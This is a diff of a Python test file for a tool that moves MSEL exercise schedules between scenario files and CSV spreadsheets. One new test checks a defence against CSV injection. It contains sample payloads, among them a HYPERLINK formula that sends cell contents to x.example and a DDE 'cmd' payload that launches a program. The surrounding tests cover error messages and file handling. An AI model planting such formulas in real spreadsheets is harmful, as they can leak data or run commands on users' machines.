@@ -97,7 +97,7 @@ def test_bad_rows_are_named_by_row_number_and_nothing_is_written(tmp_path: Path)
     args = ("msel", "import", "bad.csv", "--scenario", "tutorial", "--out", "out")
     result = run_cli(*args, cwd=tmp_path)
     assert result.returncode == 2
-    lines = result.stdout.splitlines()
+    lines = result.stderr.splitlines()
     assert lines[:4] == [
         "bad.csv:row 3: manual: expected yes or no, got 'maybe'",
         "bad.csv:row 4: at: impossible time '00:75': minutes and seconds run from 00 to 59",
@@ -117,8 +117,8 @@ def test_a_hand_made_spreadsheet_imports(tmp_path: Path) -> None:
     _write(tmp_path / "plan.csv", rows, delimiter=";")
     args = ("msel", "import", "plan.csv", "--scenario", "mini.toml", "--out", "out")
     result = run_cli(*args, cwd=tmp_path)
-    assert result.returncode == 0, result.stdout
-    assert "plan.csv:row 1: warning: column 'Notes' is not one this tool reads" in result.stdout
+    assert result.returncode == 0, result.stderr
+    assert "plan.csv:row 1: warning: column 'Notes' is not one this tool reads" in result.stderr
     back = load_scenario(tmp_path / "out" / "mini.toml")
     assert list(back.injects) == ["k-01", "k-02"]
     assert back.injects["k-02"].at == 600  # no At column: Time is the delivery time
@@ -146,14 +146,14 @@ def test_missing_columns_and_existing_output_are_refused(tmp_path: Path) -> None
     out = tmp_path / "out"
     thin = run_cli("msel", "import", str(sheet), "--scenario", "tutorial", "--out", str(out))
     assert thin.returncode == 2
-    assert "thin.csv:row 1: missing column 'Channel'" in thin.stdout
+    assert "thin.csv:row 1: missing column 'Channel'" in thin.stderr
     assert not out.exists()
 
     good = _export(tmp_path, "tutorial")
     args = ("msel", "import", str(good), "--scenario", "tutorial", "--out", str(out))
     assert run_cli(*args).returncode == 0
     again = run_cli(*args)
-    assert again.returncode == 2 and "add --overwrite" in again.stdout
+    assert again.returncode == 2 and "add --overwrite" in again.stderr
     assert run_cli(*args, "--overwrite").returncode == 0
     own = run_cli("msel", "import", str(good), "--scenario", "tutorial", "--out", "scenarios")
     assert own.returncode == 2 and "import into a new folder" in own.stderr
@@ -186,3 +186,109 @@ def test_write_csv_quotes_multiline_bodies() -> None:
     stream = io.StringIO()
     write_csv(export_rows(load_scenario(REPO / "scenarios" / "tutorial.toml")), stream)
     assert '"A trader from the eastern quarter' in stream.getvalue()
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_round_trip(
+    tmp_path: Path,
+) -> None:
+    """CSV injection: a title or body starting with = + - @ (or tab, CR) is exported with the
+    ' prefix spreadsheets read as text, and import takes the prefix off again."""
+    hostile = {
+        "tut-01": '=HYPERLINK("http://x.example/?"&A1,"click")',
+        "tut-02": "+1+cmd|' /C calc'!A0",
+        "tut-03": "-2+3",
+        "tut-05": "@SUM(1,1)",
+        "tut-06": "'=already quoted",
+    }
+    text = (REPO / "scenarios" / "tutorial.toml").read_text(encoding="utf-8")
+    for iid, title in hostile.items():
+        start = text.index(f'id = "{iid}"')
+        end = text.index("\n", text.index("title = ", start))
+        text = (
+            text[:start] + text[start:end].split("title = ")[0] + f"title = {title!r}" + text[end:]
+        )
+    (tmp_path / "s.toml").write_text(text.replace("title = '", "title = '"), encoding="utf-8")
+    original = load_scenario(tmp_path / "s.toml")
+    assert original.injects["tut-01"].title == hostile["tut-01"]
+    sheet = tmp_path / "msel.csv"
+    assert run_cli("msel", "export", str(tmp_path / "s.toml"), "--out", str(sheet)).returncode == 0
+    titles = {row[2]: row[3] for row in _rows(sheet)[1:]}
+    for iid, title in hostile.items():
+        assert titles[iid] == "'" + title, iid  # shown as text, never run
+    result = run_cli(
+        "msel",
+        "import",
+        str(sheet),
+        "--scenario",
+        str(tmp_path / "s.toml"),
+        "--out",
+        "out",
+        cwd=tmp_path,
+    )
+    assert result.returncode == 0, result.stderr
+    assert "formula" not in result.stderr  # guarded cells are not warned about
+    back = load_scenario(tmp_path / "out" / "s.toml")
+    assert {iid: back.injects[iid].title for iid in hostile} == hostile
+
+    rows = _rows(sheet)
+    rows[1][3] = "=1+1"  # a hand-edited cell, unguarded
+    _write(tmp_path / "edited.csv", rows)
+    edited = run_cli(
+        "msel", "import", "edited.csv", "--scenario", "s.toml", "--out", "out2", cwd=tmp_path
+    )
+    assert edited.returncode == 0, edited.stderr
+    assert "edited.csv:row 2: title: warning: the 'Title' cell starts with '='" in edited.stderr
+
+
+def test_export_refuses_to_overwrite_without_the_flag(tmp_path: Path) -> None:
+    out = tmp_path / "msel.csv"
+    out.write_text("my own notes", encoding="utf-8")
+    refused = run_cli("msel", "export", "tutorial", "--out", str(out))
+    assert refused.returncode == 2
+    assert "already exists: add --overwrite to replace it" in refused.stderr
+    assert out.read_text(encoding="utf-8") == "my own notes"
+    assert run_cli("msel", "export", "tutorial", "--out", str(out), "--overwrite").returncode == 0
+    folder = run_cli("msel", "export", "tutorial", "--out", str(tmp_path))
+    assert folder.returncode == 2 and "is a folder: --out takes a file name" in folder.stderr
+
+
+def test_a_cp1252_sheet_is_named_by_row_with_the_fix(tmp_path: Path) -> None:
+    rows = _rows(_export(tmp_path, "tutorial"))
+    rows[3][3] = "Café des Amis"  # row 4
+    with (tmp_path / "excel.csv").open("w", encoding="cp1252", newline="") as stream:
+        csv.writer(stream).writerows(rows)
+    result = run_cli(
+        "msel", "import", "excel.csv", "--scenario", "tutorial", "--out", "out", cwd=tmp_path
+    )
+    assert result.returncode == 2
+    assert "excel.csv:row 4: not UTF-8 text: save the sheet as 'CSV UTF-8'" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+def test_an_msel_of_another_scenario_is_named(tmp_path: Path) -> None:
+    sheet = _export(tmp_path, "minusca-bambari")
+    result = run_cli(
+        "msel", "import", str(sheet), "--scenario", "tutorial", "--out", "out", cwd=tmp_path
+    )
+    assert result.returncode == 2
+    assert (
+        "this MSEL was exported from scenario 'minusca-bambari', not 'tutorial':"
+        " give --scenario minusca-bambari"
+    ) in result.stderr
+    assert len(result.stderr.splitlines()) == 2  # that line and the verdict, not 100 knock-ons
+
+
+def test_problems_outside_the_rows_cite_the_scenario_never_a_scratch_folder(
+    tmp_path: Path,
+) -> None:
+    rows = _rows(_export(tmp_path, "tutorial"))
+    rows = [row for row in rows if row[2] != "tut-04"]  # a transition waits on tut-04
+    _write(tmp_path / "short.csv", rows)
+    result = run_cli(
+        "msel", "import", "short.csv", "--scenario", "tutorial", "--out", "out", cwd=tmp_path
+    )
+    assert result.returncode == 2
+    assert "tutorial.toml: transitions[1].when: in condition \"delivered('tut-04')\"" in (
+        result.stderr
+    )
+    assert "msel-" not in result.stderr and "/tmp" not in result.stderr
